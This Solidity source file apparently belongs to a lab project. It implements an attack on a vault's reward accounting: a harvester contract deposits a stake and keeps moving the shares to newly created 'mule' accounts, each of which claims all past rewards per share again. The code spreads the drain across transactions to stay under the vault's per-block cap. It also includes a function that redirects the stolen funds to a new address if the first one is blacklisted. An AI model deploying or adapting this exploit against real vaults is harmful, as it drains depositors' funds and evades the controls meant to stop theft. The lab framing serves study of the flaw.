// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.30;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {Math} from "@openzeppelin/contracts/utils/math/Math.sol";
import {LabVault} from "../LabVault.sol";

/// @title An account that has never met the vault
/// @notice Holds the harvester's shares for one claim: to the vault it is new,
/// so its shares look as if they had earned since the first day.
contract Mule {
    LabVault private immutable _vault;
    address private immutable _handler;

    /// @notice Only the contract that made the mule drives it.
    error NotHandler(address caller);

    constructor(LabVault vault) {
        _vault = vault;
        _handler = msg.sender;
    }

    modifier onlyHandler() {
        if (msg.sender != _handler) revert NotHandler(msg.sender);
        _;
    }

    /// @notice Claims `amount` for `loot`.
    function claim(uint256 amount, address loot) external onlyHandler {
        _vault.claim(amount, loot);
    }

    /// @notice Hands all shares on to `next`.
    function pass(address next) external onlyHandler {
        assert(_vault.transfer(next, _vault.balanceOf(address(this))));
    }
}

/// @title The attack on the vault's reward accounting
/// @notice Claims the same rewards again and again: the shares hop to a new
/// account, the new account claims everything that was ever paid per share.
/// One call is one transaction of the series; the vault's cap per block keeps
/// it from being a single one.
contract RewardHarvester {
    LabVault public immutable vault;
    address public immutable owner;

    /// @notice Where the money goes.
    address public loot;

    /// @notice The account that holds the shares now.
    Mule public mule;

    event Harvested(address indexed mule, uint256 amount);

    /// @notice Only the attacker drives the attack.
    error NotOwner(address caller);

    constructor(LabVault vault_, address loot_) {
        vault = vault_;
        owner = msg.sender;
        loot = loot_;
    }

    modifier onlyOwner() {
        if (msg.sender != owner) revert NotOwner(msg.sender);
        _;
    }

    /// @notice Deposits `stake` base units of the attacker, who has approved
    /// this contract. What a claim takes grows with it.
    function open(uint256 stake) external onlyOwner {
        IERC20 token = IERC20(vault.asset());
        assert(token.transferFrom(owner, address(this), stake));
        assert(token.approve(address(vault), stake));
        mule = new Mule(vault);
        vault.deposit(stake, address(mule));
    }

    /// @notice Takes up to `atMost` base units: one step of the series. A large
    /// number drains; a small one bleeds.
    function harvest(uint256 atMost) external onlyOwner {
        if (vault.claimable(address(mule)) == 0) _hop();
        uint256 amount = Math.min(atMost, vault.claimable(address(mule)));
        amount = Math.min(amount, vault.maxOutflowPerBlock());
        amount = Math.min(amount, IERC20(vault.asset()).balanceOf(address(vault)));
        emit Harvested(address(mule), amount);
        mule.claim(amount, loot);
    }

    /// @notice Sends later takings to `loot_`, as a thief whose account was
    /// listed would.
    function redirect(address loot_) external onlyOwner {
        loot = loot_;
    }

    function _hop() private {
        Mule next = new Mule(vault);
        mule.pass(address(next));
        mule = next;
    }
}
